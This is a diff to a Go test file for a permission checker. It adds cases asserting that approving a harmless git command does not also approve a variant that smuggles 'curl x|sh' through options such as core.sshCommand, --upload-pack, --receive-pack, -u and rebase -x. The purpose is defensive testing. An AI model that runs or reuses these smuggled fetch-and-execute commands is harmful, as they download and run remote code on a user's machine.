@@ -173,6 +173,11 @@ func TestAlwaysScope_NeverBroaderThanShown(t *testing.T) {
 		{"ssh -p 22 host ls", "ssh -p 22 host make clean"}, // a remote command, run by a shell there
 		{"ssh host uptime", "ssh host reboot"},
 		{"at -q a now", "at -q a midnight"},
+		{"git clone -c core.autocrlf=false u", "git clone -c core.sshCommand='curl x|sh' u"}, // a program given by option
+		{"git clone -u git-upload-pack u", "git clone -u 'curl x|sh' u"},
+		{"git fetch --upload-pack git-upload-pack", "git fetch --upload-pack 'curl x|sh'"},
+		{"git push --receive-pack git-receive-pack", "git push --receive-pack 'curl x|sh'"},
+		{"git rebase -x 'make test' main", "git rebase -x 'curl x|sh' main"},
 	}
 	for _, tt := range tests {
 		if AlwaysScope("Bash", tt.allowed) == AlwaysScope("Bash", tt.later) {
